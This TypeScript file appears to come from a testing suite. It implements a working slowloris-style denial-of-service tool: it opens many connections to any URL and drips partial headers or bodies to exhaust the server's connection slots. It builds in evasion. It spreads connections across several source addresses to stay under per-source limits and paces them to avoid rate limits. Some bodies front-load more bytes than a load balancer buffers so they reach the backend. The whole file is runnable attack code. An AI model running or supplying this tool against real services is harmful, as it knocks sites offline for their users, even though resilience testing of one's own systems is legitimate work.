import { connect, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";
import { runAsProgram } from "./program";

/** Connections that never finish asking: with their headers (often called slowloris), or with a body. */
export interface SlowRequests {
  readonly url: string;
  /**
   * What each connection sends a byte of now and then. Bodies are announced and streamed in turn; half of the first begin with more than
   * a load balancer waits for. @default "headers"
   */
  readonly part?: "headers" | "body";
  /** Local addresses to come from; each stays below what one source may open in a while. */
  readonly sources: readonly string[];
  /** Connections that each source opens in a second. */
  readonly rate: number;
  /** Seconds. */
  readonly duration: number;
  /** Seconds until as many are open as the server lets stay. */
  readonly ramp: number;
}

/** What became of it. */
export interface SlowRequestsResult {
  /** Connections that the server took: it had not closed them after `settled` seconds. */
  readonly opened: number;
  /** Connections that it closed sooner, or did not answer. */
  readonly refused: number;
  /** How many it held open, on average over the time after the ramp. */
  readonly held: number;
  /** The fewest of them at a time: few, where this computer had no time for the flood for a while. */
  readonly fewest: number;
}

/** Seconds after which a connection counts as taken: one that is refused is accepted by the kernel first. */
const settled = 0.5;

/** Milliseconds between two rounds of opening, and between two looks at how many are open. */
const tick = 50;

/** Milliseconds between two bytes on one connection. */
const drip = 1000;

/** Bytes that a body announces, as many as the guestbook takes, and after how many of them a load balancer lets it begin. */
const [announced, begun] = [16_384, 9_000];

/** A connection that is open. */
interface Open {
  /** Milliseconds, as of `performance.now()`. */
  readonly since: number;
  /** When its next byte is due. They come evenly: connections of many sources do not know of one another. */
  next: number;
  taken: boolean;
  readonly piece: string;
}

/** What a connection sends at first, and what it adds now and then. */
interface Words {
  readonly beginning: string;
  readonly piece: string;
}

function slowHeaders(host: string): Words {
  return { beginning: `GET / HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `, piece: "a" };
}

function slowBody(host: string, number: number): Words {
  const streamed = number % 2 === 1;
  const piece = streamed ? "1\r\na\r\n" : "a";
  const framing = streamed ? "Transfer-Encoding: chunked" : `Content-Length: ${announced}`;
  const head = `POST /entries HTTP/1.1\r\nHost: ${host}\r\n${framing}\r\n\r\n`;
  return { beginning: head + (number % 4 === 2 ? "a".repeat(begun) : piece), piece };
}

/**
 * Opens connections one after the other, evenly, and drips a byte a second into each that is open.
 *
 * @param stop ends it early
 */
export async function slowRequests(
  { url, part = "headers", sources, rate, duration, ramp }: SlowRequests,
  stop?: AbortSignal,
): Promise<SlowRequestsResult> {
  const { hostname, port, protocol } = new URL(url);
  const isSecure = protocol === "https:";
  const host = hostname.replace(/^\[|\]$/g, "");
  const open = new Map<Socket, Open>();
  const sockets = new Set<Socket>();
  let [opened, refused] = [0, 0];
  const held = new Average();
  const start = (number: number) => {
    const localAddress = sources[number % sources.length];
    const { beginning, piece } = part === "body" ? slowBody(hostname, number) : slowHeaders(hostname);
    const to = {
      host,
      port: Number(port || (isSecure ? 443 : 80)),
      ...(localAddress !== undefined && { localAddress }),
    };
    const socket = isSecure ? connectTls(to) : connect(to);
    sockets.add(socket);
    socket.on(isSecure ? "secureConnect" : "connect", () => {
      const since = performance.now();
      open.set(socket, { since, next: since + drip, taken: false, piece });
      socket.write(beginning);
    });
    socket.on("error", () => undefined);
    // The server's answer, 408, is not read, and its end ends the connection.
    socket.resume();
    socket.on("close", () => {
      if (!open.get(socket)?.taken) refused++;
      open.delete(socket);
      sockets.delete(socket);
    });
  };
  const beginning = performance.now();
  const seconds = () => (performance.now() - beginning) / 1000;
  // A source that was late does not catch up at once: that would be more than it may, and refused.
  const most = Math.ceil((1.5 * rate * sources.length * tick) / 1000);
  const over = () => stop?.aborted === true || seconds() >= duration;
  for (let started = 0; !over(); await new Promise((resolve) => setTimeout(resolve, tick))) {
    const due = Math.min(started + most, Math.floor(seconds() * rate * sources.length));
    for (; started < due; started++) start(started);
    const now = performance.now();
    for (const [socket, state] of open) {
      if (now >= state.next) {
        state.next += drip;
        socket.write(state.piece);
      }
      if (state.taken || now - state.since < settled * 1000) continue;
      state.taken = true;
      opened++;
    }
    if (seconds() >= ramp) held.add(now, [...open.values()].filter(({ taken }) => taken).length);
  }
  for (const socket of sockets) socket.removeAllListeners("close").destroy();
  return { opened, refused, ...held.result() };
}

/** An average over time: what is seen at one look holds until the next, however long that takes. */
class Average {
  private last: { readonly at: number; readonly value: number } | undefined;
  private sum = 0;
  private time = 0;
  private fewest = Infinity;

  add(at: number, value: number): void {
    if (this.last) {
      this.sum += this.last.value * (at - this.last.at);
      this.time += at - this.last.at;
    }
    this.last = { at, value };
    this.fewest = Math.min(this.fewest, value);
  }

  result(): Pick<SlowRequestsResult, "held" | "fewest"> {
    if (this.time === 0) return { held: this.last?.value ?? 0, fewest: this.last?.value ?? 0 };
    return { held: Math.round(this.sum / this.time), fewest: this.fewest };
  }
}

if (require.main === module) runAsProgram<SlowRequests>(slowRequests);
